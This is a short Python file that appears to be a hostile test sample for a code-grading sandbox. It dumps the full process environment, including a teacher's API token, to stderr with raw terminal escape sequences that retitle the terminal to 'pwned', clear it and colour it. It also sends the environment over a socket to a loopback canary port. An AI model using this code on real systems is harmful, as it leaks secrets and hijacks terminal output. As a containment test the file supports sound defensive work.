# Hostile: print the whole environment (a teacher's API token, paths) and raw escape sequences
# (retitle the terminal, clear it, colour) next to the private copy's path, where the feedback and
# the terminal show a crash; and send the environment to the host's other loopback port the test
# listens on.
import os
import socket
import sys

from _attack import planted

env = dict(os.environ)
try:
    with socket.create_connection(("127.0.0.1", int(planted("canary_port.txt"))), timeout=1) as sock:
        sock.sendall(("x_env_escape " + str(env)).encode())
except (OSError, ValueError):
    pass
sys.stderr.write("ENV %r\n\x1b]0;pwned\x07\x1b[2J\x1b[31mRED\x1b[0m cwd=%s file=%s\n"
                 % (env, os.getcwd(), os.path.abspath(__file__)))
raise SystemExit(1)
